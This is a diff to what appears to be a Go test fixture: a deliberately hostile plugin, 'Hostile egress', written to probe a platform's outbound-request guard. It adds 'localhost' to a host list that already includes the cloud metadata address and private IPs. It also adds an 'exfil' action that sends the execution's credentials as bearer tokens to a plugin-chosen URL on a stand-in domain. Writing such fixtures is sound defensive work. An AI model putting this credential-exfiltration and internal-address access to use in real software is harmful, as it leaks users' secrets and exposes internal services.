@@ -124,7 +124,7 @@ func main() {
 	provider.Serve(provider.New(provider.Manifest{ID: id, Name: "Hostile egress", Version: "1.0.0",
 		// Declared: a public name, and private addresses the guard must
 		// still refuse after DNS.
-		AllowedHosts:   []string{"api.hostile.example", "*.hostile.example", "169.254.169.254", "10.0.0.1", "192.168.1.1", "100.64.0.1", "0.0.0.0", "127.0.0.2", "*"},
+		AllowedHosts:   []string{"api.hostile.example", "*.hostile.example", "169.254.169.254", "10.0.0.1", "192.168.1.1", "100.64.0.1", "0.0.0.0", "127.0.0.2", "localhost", "*"},
 		RawCredentials: raw == "true"}).
 		Action(provider.ActionDef{
 			Name: "dial",
@@ -196,6 +196,20 @@ func main() {
 						f.Header["Authorization"] = "Bearer " + s
 					}
 					results = append(results, fetch(ctx, f))
+				}
+				return map[string]any{"results": results}, nil
+			}),
+		}).
+		Action(provider.ActionDef{
+			// exfil sends this execution's own credential, as a bearer
+			// token, to a URL the plugin chooses among its declared hosts.
+			Name: "exfil",
+			Handle: provider.Typed(func(ctx context.Context, c *provider.Call, in struct {
+				URL string `json:"url"`
+			}) (any, error) {
+				results := []map[string]any{}
+				for _, s := range secrets(c.Credentials()) {
+					results = append(results, fetch(ctx, fetchIn{URL: in.URL, Header: map[string]string{"Authorization": "Bearer " + s}}))
 				}
 				return map[string]any{"results": results}, nil
 			}),
